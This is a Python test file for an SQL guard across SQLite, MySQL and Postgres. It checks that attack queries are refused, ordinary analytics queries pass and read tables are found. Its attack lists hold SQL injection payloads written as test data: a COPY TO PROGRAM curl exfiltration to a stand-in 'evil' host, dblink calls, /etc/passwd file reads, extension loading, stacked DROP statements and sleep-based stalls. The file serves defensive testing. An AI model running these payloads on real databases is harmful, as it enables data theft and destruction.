"""The SQL guard on its own: attacks are refused in each dialect, ordinary analytics SQL passes, and the tables a
query reads are found through CTEs (including ones that shadow a table), subqueries, joins and set operations."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers.sql.guard import CheckedQuery, SqlRefused, check_query, dialect_for

DIALECTS = ("sqlite", "mysql", "postgres")

ATTACKS = [
    # (dialects, sql, words the refusal mentions)
    (DIALECTS, "WITH d AS (DELETE FROM ORD_MST RETURNING *) SELECT * FROM d", "DELETE"),
    (("postgres",), "WITH u AS (UPDATE ORD_MST SET TOT_AMT = 0 RETURNING *) SELECT count(*) FROM u", "UPDATE"),
    (("postgres",), "WITH i AS (INSERT INTO CUST_MST (CUST_ID) VALUES ('X') RETURNING *) SELECT * FROM i", "INSERT"),
    (DIALECTS, "SELECT 1; DROP TABLE ORD_MST", "one statement"),
    # placeholders: nothing is bound to them, so the model is told to write the value in
    (("sqlite", "postgres"), "SELECT COUNT(*) FROM CUST_MST WHERE CUST_ID = ? LIMIT 1", "nothing is bound"),
    (("sqlite",), "SELECT COUNT(*) FROM CUST_MST WHERE CUST_ID = :cust", "write the values"),
    (("postgres",), "SELECT COUNT(*) FROM CUST_MST WHERE CUST_ID = $1", "($1)"),
    (DIALECTS, "COMMIT; DELETE FROM ORD_MST", "one statement"),
    (DIALECTS, "DELETE FROM ORD_MST", "only queries"),
    (DIALECTS, "UPDATE ORD_MST SET TOT_AMT = 0", "only queries"),
    (DIALECTS, "INSERT INTO CUST_MST (CUST_ID) VALUES ('X')", "only queries"),
    (DIALECTS, "DROP TABLE ORD_MST", "only queries"),
    (DIALECTS, "CREATE TABLE X AS SELECT * FROM EMP_MST", "only queries"),
    (("postgres",), "SELECT pg_sleep(10)", "PG_SLEEP"),
    (("postgres",), "SELECT * FROM ORD_MST WHERE pg_sleep(10) IS NOT NULL", "PG_SLEEP"),
    (("postgres",), "SELECT pg_catalog.pg_sleep(10)", "not allowed"),
    (("mysql",), "SELECT SLEEP(10)", "SLEEP"),
    (("mysql",), "SELECT BENCHMARK(100000000, MD5('a'))", "BENCHMARK"),
    (("mysql",), "SELECT LOAD_FILE('/etc/passwd')", "LOAD_FILE"),
    (("mysql",), "SELECT * FROM ORD_MST INTO OUTFILE '/tmp/orders.csv'", "OUTFILE"),
    (("mysql",), "SELECT SAL_AMT FROM EMP_MST INTO DUMPFILE '/tmp/x'", "DUMPFILE"),
    (("mysql",), "SELECT GET_LOCK('x', 10)", "GET_LOCK"),
    (("mysql",), "SELECT 1 INTO @x", "INTO"),
    (("mysql",), "SELECT @x := 1", ":="),
    (("postgres",), "COPY (SELECT * FROM EMP_MST) TO PROGRAM 'curl -d @- evil'", "COPY"),
    (("postgres",), "COPY ORD_MST TO '/tmp/x'", "COPY"),
    (("postgres",), "SELECT set_config('statement_timeout', '0', false)", "SET_CONFIG"),
    (("postgres",), "SELECT current_setting('data_directory')", "CURRENT_SETTING"),
    (("postgres",), "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "DBLINK"),
    (("postgres",), "SELECT dblink_exec('host=evil', 'DROP TABLE x')", "DBLINK_EXEC"),
    (("postgres",), "SELECT query_to_xml('SELECT * FROM \"EMP_MST\"', true, true, '')", "QUERY_TO_XML"),
    (("postgres",), "SELECT pg_read_file('/etc/passwd')", "PG_READ_FILE"),
    (("postgres",), "SELECT lo_import('/etc/passwd')", "LO_IMPORT"),
    (("postgres",), "SELECT pg_terminate_backend(1)", "PG_TERMINATE_BACKEND"),
    (("postgres",), "SELECT nextval('seq')", "NEXTVAL"),
    (("postgres",), "SELECT pg_advisory_lock(1)", "PG_ADVISORY_LOCK"),
    (("sqlite",), "SELECT load_extension('/tmp/evil.so')", "LOAD_EXTENSION"),
    (("sqlite",), "SELECT writefile('/tmp/x', 'a')", "WRITEFILE"),
    (("sqlite",), "ATTACH DATABASE '/tmp/x.db' AS x", "only queries"),
    (("sqlite",), "PRAGMA writable_schema = ON", "only queries"),
    (("mysql",), "SELECT 1 /*! ; DROP TABLE ORD_MST */", "executable comments"),
    (("mysql",), "SELECT /*!50000 SLEEP(10) */ 1", "executable comments"),
    (("mysql",), "SELECT /*M! SLEEP(10) */ 1", "executable comments"),
    (("mysql",), "SELECT /*+ SET_VAR(max_statement_time=0) */ 1", "optimizer hints"),
    (DIALECTS, "SELECT * FROM ORD_MST FOR UPDATE", "locking"),
    (("postgres",), "SELECT * FROM ORD_MST FOR SHARE", "locking"),
    (("postgres",), "SELECT * FROM ORD_MST FOR NO KEY UPDATE NOWAIT", "locking"),
    (("mysql",), "SELECT * FROM ORD_MST LOCK IN SHARE MODE", "locking"),
    (("postgres",), "SELECT * INTO new_orders FROM ORD_MST", "INTO"),
    (DIALECTS, "SELEC ORD_NO FRM ORD_MST", "does not parse"),
    (DIALECTS, "SELECT (1", "does not parse"),
    (DIALECTS, "   ", "no SQL"),
    (("sqlite",), "SELECT * FROM sqlite_master", "system catalogs"),
    (("postgres",), "SELECT * FROM pg_catalog.pg_authid", "system catalogs"),
    (("postgres", "mysql"), "SELECT table_name FROM information_schema.tables", "system catalogs"),
    (("mysql",), "SELECT * FROM mysql.user", "system catalogs"),
    (("postgres",), "SET TRANSACTION READ WRITE", "only queries"),
    (("mysql",), "SET SESSION max_statement_time = 0", "only queries"),
    (("postgres",), "BEGIN", "only queries"),
    (("postgres", "mysql"), "GRANT ALL ON ORD_MST TO PUBLIC", "only queries"),
    (("postgres", "mysql"), "TRUNCATE TABLE ORD_MST", "only queries"),
    (("postgres", "mysql"), "CALL do_things()", "only queries"),
]

ACCEPTED = [
    # (dialects, sql, tables read)
    (
        DIALECTS,
        "SELECT o.ORD_NO, c.CUST_NM, SUM(d.AMT) AS amt FROM ORD_MST o JOIN CUST_MST c ON c.CUST_ID = o.CUST_ID "
        "LEFT JOIN ORD_DTL_H d ON d.ORD_NO = o.ORD_NO WHERE o.STATUS_CODE IN ('40', '50') "
        "GROUP BY o.ORD_NO, c.CUST_NM HAVING SUM(d.AMT) > 1000 ORDER BY amt DESC LIMIT 10",
        ["ORD_MST", "CUST_MST", "ORD_DTL_H"],
    ),
    (
        DIALECTS,
        "SELECT CUST_ID, TOT_AMT, ROW_NUMBER() OVER (PARTITION BY CUST_ID ORDER BY TOT_AMT DESC) AS rn, "
        "SUM(TOT_AMT) OVER (PARTITION BY CUST_ID) AS total, LAG(TOT_AMT) OVER (ORDER BY ORD_DT) AS prev, "
        "CASE WHEN TOT_AMT > 100000 THEN 'big' WHEN TOT_AMT IS NULL THEN 'none' ELSE 'small' END AS size "
        "FROM ORD_MST",
        ["ORD_MST"],
    ),
    (
        DIALECTS,
        "WITH monthly AS (SELECT CUST_ID, COUNT(*) AS n FROM ORD_MST GROUP BY CUST_ID), "
        "top AS (SELECT * FROM monthly WHERE n > 5) SELECT c.CUST_NM, top.n FROM top JOIN CUST_MST c USING (CUST_ID)",
        ["ORD_MST", "CUST_MST"],
    ),
    (
        DIALECTS,
        "SELECT ORD_NO FROM ORD_MST UNION SELECT ORD_NO FROM ORD_MST_BAK UNION ALL SELECT ORD_NO FROM ORD_DTL_H",
        ["ORD_MST", "ORD_MST_BAK", "ORD_DTL_H"],
    ),
    (
        DIALECTS,
        "SELECT * FROM CUST_MST WHERE CUST_ID IN (SELECT CUST_ID FROM ORD_MST WHERE TOT_AMT > "
        "(SELECT AVG(TOT_AMT) FROM ORD_MST)) AND EXISTS (SELECT 1 FROM ORD_DTL_H WHERE QTY > 3)",
        ["CUST_MST", "ORD_MST", "ORD_DTL_H"],
    ),
    (
        DIALECTS,
        "SELECT COALESCE(NULLIF(TRIM(UPPER(CITY_NM)), ''), 'unknown') AS city, COUNT(DISTINCT CUST_ID), "
        "ROUND(AVG(LENGTH(CUST_NM)), 2), MIN(REG_DT), MAX(REG_DT) FROM CUST_MST GROUP BY 1",
        ["CUST_MST"],
    ),
    (
        ("sqlite",),
        "SELECT strftime('%Y-%m', ORD_DT) AS month, count(*), total(TOT_AMT), date(ORD_DT, '+1 month'), "
        "julianday('now') - julianday(ORD_DT), iif(TOT_AMT > 0, 1, 0), printf('%.2f', TOT_AMT), "
        "substr(ORD_NO, 1, 4), ifnull(REMARK, '-'), group_concat(SHIP_CITY, ',') FROM ORD_MST GROUP BY month",
        ["ORD_MST"],
    ),
    (
        ("mysql",),
        "SELECT DATE_FORMAT(ORD_DT, '%Y-%m') AS month, COUNT(*), IFNULL(SUM(TOT_AMT), 0), "
        "DATEDIFF(CURDATE(), ORD_DT), DATE_SUB(ORD_DT, INTERVAL 1 MONTH), YEAR(ORD_DT), LAST_DAY(ORD_DT), "
        "IF(TOT_AMT > 0, 1, 0), GROUP_CONCAT(DISTINCT SHIP_CITY ORDER BY SHIP_CITY SEPARATOR ', '), "
        "TIMESTAMPDIFF(DAY, REG_DTM, UPD_DTM), STR_TO_DATE('2024-01-01', '%Y-%m-%d'), SUBSTRING_INDEX(ORD_NO, '0', 1) "
        "FROM `ORD_MST` WHERE ORD_DT >= NOW() - INTERVAL 30 DAY GROUP BY month",
        ["ORD_MST"],
    ),
    (
        ("postgres",),
        'SELECT date_trunc(\'month\', "ORD_DT") AS month, count(*), sum("TOT_AMT")::numeric(14, 2), '
        'extract(year FROM "ORD_DT"), to_char("ORD_DT", \'YYYY-MM\'), age(now(), "REG_DTM"), '
        '"ORD_DT" + interval \'1 month\', string_agg("SHIP_CITY", \', \' ORDER BY "SHIP_CITY"), '
        'percentile_cont(0.5) WITHIN GROUP (ORDER BY "TOT_AMT"), count(*) FILTER (WHERE "TOT_AMT" > 0), '
        "split_part(\"ORD_NO\", '0', 1), \"ORD_NO\" ILIKE 'o%', make_date(2024, 1, 1) "
        'FROM "ORD_MST" WHERE "ORD_DT" >= current_date - 30 GROUP BY 1',
        ["ORD_MST"],
    ),
    (("postgres",), "SELECT g, g * 2 FROM generate_series(1, 10) AS g", []),
    (
        ("sqlite", "postgres"),
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 10) SELECT x FROM c",
        [],
    ),
    (("mysql",), "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 10) SELECT x FROM c", []),
    (DIALECTS, "SELECT 1;", []),
    (("postgres",), "VALUES (1, 'a'), (2, 'b')", []),
]


def _check(sql: str, dialect: str) -> CheckedQuery:
    return check_query(sql, dialect)


@pytest.mark.parametrize(
    ("dialect", "sql", "mention"),
    [pytest.param(d, sql, mention, id=f"{d}:{sql[:40]}") for dialects, sql, mention in ATTACKS for d in dialects],
)
def test_attacks_are_refused(dialect: str, sql: str, mention: str) -> None:
    with pytest.raises(SqlRefused) as refused:
        _check(sql, dialect)
    message = str(refused.value)
    assert message.startswith("refused: ")
    assert mention.lower() in message.lower()
    assert "\x1b" not in message
    assert len(message) < 400


@pytest.mark.parametrize(
    ("dialect", "sql", "tables"),
    [pytest.param(d, sql, tables, id=f"{d}:{sql[:40]}") for dialects, sql, tables in ACCEPTED for d in dialects],
)
def test_ordinary_analytics_sql_passes(dialect: str, sql: str, tables: list[str]) -> None:
    checked = _check(sql, dialect)
    assert [t.name for t in checked.tables] == tables


def test_dialects_of_source_engines() -> None:
    assert dialect_for("sqlite") == "sqlite"
    assert dialect_for("mariadb") == dialect_for("mysql") == "mysql"
    assert dialect_for("postgresql") == "postgres"
    assert dialect_for("oracle") is None


# --- which tables a query reads ---------------------------------------------------------------------------------


def _tables(sql: str, dialect: str = "postgres") -> list[str]:
    return [t.written for t in _check(sql, dialect).tables]


def test_a_cte_named_like_a_table_hides_it_only_inside_its_scope() -> None:
    assert _tables("WITH EMP_MST AS (SELECT * FROM ORD_MST) SELECT * FROM EMP_MST") == ["ORD_MST"]
    # The body of a non-recursive CTE sees the real table of the same name.
    assert _tables("WITH EMP_MST AS (SELECT * FROM EMP_MST) SELECT * FROM EMP_MST") == ["EMP_MST"]
    # A CTE inside a subquery does not hide the table outside it.
    assert _tables("SELECT * FROM (WITH EMP_MST AS (SELECT 1 AS a) SELECT * FROM EMP_MST) x CROSS JOIN EMP_MST") == [
        "EMP_MST"
    ]
    # An earlier CTE cannot see a later one.
    assert _tables("WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a") == ["b"]
    # A schema-qualified name is never a CTE.
    assert _tables("WITH EMP_MST AS (SELECT 1 AS a) SELECT * FROM public.EMP_MST") == ["public.EMP_MST"]
    # A derived table's alias is not a source for other FROM items.
    assert _tables("SELECT * FROM (SELECT 1 AS a) AS EMP_MST, (SELECT * FROM EMP_MST) y") == ["EMP_MST"]


def test_cte_names_follow_each_engines_case_rules() -> None:
    # PostgreSQL folds unquoted names: "EMP_MST" quoted is another name than EMP_MST unquoted.
    assert _tables('WITH "EMP_MST" AS (SELECT 1 AS a) SELECT * FROM EMP_MST') == ["EMP_MST"]
    assert _tables("WITH emp_mst AS (SELECT 1 AS a) SELECT * FROM EMP_MST") == []
    # SQLite compares without case; MariaDB/MySQL only counts an exact match as the CTE.
    assert _tables("WITH emp_mst AS (SELECT 1 AS a) SELECT * FROM EMP_MST", "sqlite") == []
    assert _tables("WITH emp_mst AS (SELECT 1 AS a) SELECT * FROM EMP_MST", "mysql") == ["EMP_MST"]


def test_tables_in_subqueries_joins_set_operations_and_quoting() -> None:
    sql = (
        'SELECT * FROM "ORD_MST" o JOIN public."CUST_MST" c ON true WHERE o."ORD_NO" IN '
        '(SELECT "ORD_NO" FROM "ORD_DTL_H") UNION SELECT * FROM (SELECT * FROM "ORD_MST_BAK") b '
        'EXCEPT SELECT * FROM hr."EMP_MST"'
    )
    checked = _check(sql, "postgres")
    written = [(t.schema, t.name, t.quoted) for t in checked.tables]
    assert written == [
        (None, "ORD_MST", True),
        ("public", "CUST_MST", True),
        (None, "ORD_DTL_H", True),
        (None, "ORD_MST_BAK", True),
        ("hr", "EMP_MST", True),
    ]


# --- generated corpora ------------------------------------------------------------------------------------------

WRITES = [
    "INSERT INTO ORD_MST (ORD_NO) VALUES ('X')",
    "UPDATE ORD_MST SET TOT_AMT = 0",
    "DELETE FROM ORD_MST",
    "DROP TABLE ORD_MST",
    "CREATE TABLE X (a INT)",
    "ALTER TABLE ORD_MST ADD COLUMN X INT",
    "TRUNCATE TABLE ORD_MST",
    "GRANT SELECT ON EMP_MST TO PUBLIC",
    "REPLACE INTO ORD_MST (ORD_NO) VALUES ('X')",
    "MERGE INTO ORD_MST USING CUST_MST ON 1 = 1 WHEN MATCHED THEN DELETE",
    "CREATE VIEW V AS SELECT 1",
    "DROP VIEW V_ORDERS",
    "COMMIT",
    "ROLLBACK",
    "SET autocommit = 1",
]
DANGEROUS = {
    "sqlite": ["load_extension('/tmp/x.so')", "writefile('/tmp/x', 'y')", "readfile('/etc/passwd')", "edit('x')"],
    "mysql": [
        "SLEEP(5)",
        "BENCHMARK(1000000, 1)",
        "LOAD_FILE('/etc/passwd')",
        "GET_LOCK('a', 5)",
        "RELEASE_LOCK('a')",
        "MASTER_POS_WAIT('f', 1)",
        "SYS_EXEC('id')",
    ],
    "postgres": [
        "pg_sleep(5)",
        "pg_sleep_for('5 seconds')",
        "pg_read_file('/etc/passwd')",
        "pg_read_binary_file('/etc/passwd')",
        "pg_ls_dir('.')",
        "lo_import('/etc/passwd')",
        "lo_export(1, '/tmp/x')",
        "dblink('host=x', 'select 1')",
        "dblink_exec('host=x', 'drop table x')",
        "query_to_xml('select 1', true, true, '')",
        "query_to_xml_and_xmlschema('select 1', true, true, '')",
        "table_to_xml('\"EMP_MST\"', true, true, '')",
        "set_config('a.b', 'c', false)",
        "pg_terminate_backend(1)",
        "pg_cancel_backend(1)",
        "pg_reload_conf()",
        "pg_advisory_lock(1)",
        "nextval('s')",
        "setval('s', 1)",
        "current_setting('x')",
        "txid_current()",
    ],
}
SAFE_TEMPLATES = [
    "SELECT {f} FROM ORD_MST",
    "SELECT ORD_NO FROM ORD_MST WHERE TOT_AMT > {f}",
    "SELECT * FROM (SELECT {f} AS x FROM CUST_MST) s",
    "WITH c AS (SELECT {f} AS x) SELECT * FROM c",
    "SELECT ORD_NO FROM ORD_MST UNION SELECT CAST({f} AS CHAR(10)) FROM CUST_MST",
    "SELECT ORD_NO FROM ORD_MST ORDER BY {f}",
    "SELECT COUNT(*) FROM ORD_MST GROUP BY CUST_ID HAVING COUNT(*) > {f}",
    "SELECT CASE WHEN {f} IS NULL THEN 1 ELSE 0 END FROM ORD_MST",
    "SELECT * FROM ORD_MST WHERE EXISTS (SELECT {f})",
]
SEPARATORS = [";", " ;", ";\n", ";\t", "\n;\n", "; -- trailing\n", ";/* c */", "; #x\n"]


@st.composite
def recased(draw: st.DrawFn, text: str) -> str:
    style = draw(st.sampled_from(["upper", "lower", "asis", "random"]))
    if style == "upper":
        return text.upper()
    if style == "lower":
        return text.lower()
    if style == "asis":
        return text
    flips = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    return "".join(c.upper() if f else c.lower() for c, f in zip(text, flips, strict=True))


def _spaced(text: str, space: str) -> str:
    return text.replace(" ", space)


@settings(max_examples=300, deadline=None)
@given(
    dialect=st.sampled_from(DIALECTS),
    write=st.sampled_from(WRITES),
    separator=st.sampled_from(SEPARATORS),
    space=st.sampled_from([" ", "  ", "\n", "\t", " /* x */ ", "\r\n"]),
    write_first=st.booleans(),
    data=st.data(),
)
def test_generated_stacked_writes_are_refused(
    dialect: str, write: str, separator: str, space: str, write_first: bool, data: st.DataObject
) -> None:
    select = _spaced(data.draw(recased("SELECT ORD_NO FROM ORD_MST")), space)
    statement = _spaced(data.draw(recased(write)), space)
    for sql in (statement, f"{statement}{separator}{select}" if write_first else f"{select}{separator}{statement}"):
        with pytest.raises(SqlRefused):
            _check(sql, dialect)


@settings(max_examples=300, deadline=None)
@given(
    dialect=st.sampled_from(DIALECTS),
    template=st.sampled_from(SAFE_TEMPLATES),
    space=st.sampled_from([" ", "\n", "\t ", " /* note */ "]),
    data=st.data(),
)
def test_generated_dangerous_functions_in_valid_selects_are_refused(
    dialect: str, template: str, space: str, data: st.DataObject
) -> None:
    call = data.draw(st.sampled_from(DANGEROUS[dialect]))
    name, paren, rest = call.partition("(")
    call = data.draw(recased(name)) + paren + rest
    sql = _spaced(template, space).format(f=call)
    with pytest.raises(SqlRefused) as refused:
        _check(sql, dialect)
    assert "not allowed" in str(refused.value) or "does not parse" in str(refused.value)


@settings(max_examples=150, deadline=None)
@given(
    dialect=st.sampled_from(DIALECTS),
    write=st.sampled_from(["DELETE FROM ORD_MST", "UPDATE ORD_MST SET TOT_AMT = 0", "INSERT INTO X VALUES (1)"]),
    data=st.data(),
)
def test_generated_data_modifying_ctes_are_refused(dialect: str, write: str, data: st.DataObject) -> None:
    body = data.draw(recased(write)) + (" RETURNING *" if dialect == "postgres" else "")
    outer = data.draw(st.sampled_from(["SELECT * FROM w", "SELECT count(*) FROM w", "SELECT 1"]))
    with pytest.raises(SqlRefused):
        _check(f"WITH w AS ({body}) {outer}", dialect)


COLUMNS = {"ORD_MST": ["ORD_NO", "TOT_AMT", "CUST_ID"], "CUST_MST": ["CUST_ID", "CUST_NM"], "ORD_DTL_H": ["QTY"]}


@settings(max_examples=300, deadline=None)
@given(
    dialect=st.sampled_from(DIALECTS),
    table=st.sampled_from(sorted(COLUMNS)),
    aggregate=st.sampled_from(["", "COUNT", "SUM", "MIN", "MAX", "AVG"]),
    where=st.sampled_from(["", " WHERE {c} IS NOT NULL", " WHERE {c} > 10 AND {c} < 1000", " WHERE {c} IN (1, 2)"]),
    order=st.booleans(),
    limit=st.integers(min_value=0, max_value=1000) | st.none(),
    space=st.sampled_from([" ", "\n", "  ", "\t", "\r\n"]),
    comment=st.sampled_from(["", "/* monthly totals */ ", "-- why\n"]),
    data=st.data(),
)
def test_generated_harmless_selects_pass(
    dialect: str,
    table: str,
    aggregate: str,
    where: str,
    order: bool,
    limit: int | None,
    space: str,
    comment: str,
    data: st.DataObject,
) -> None:
    column = data.draw(st.sampled_from(COLUMNS[table]))
    selected = f"{aggregate}({column})" if aggregate else column
    sql = f"SELECT {selected} FROM {table}" + where.format(c=column)
    if order and not aggregate:
        sql += f" ORDER BY {column} DESC"
    if limit is not None:
        sql += f" LIMIT {limit}"
    sql = comment + _spaced(data.draw(recased(sql)), space)
    checked = _check(sql, dialect)
    assert [t.name.upper() for t in checked.tables] == [table]
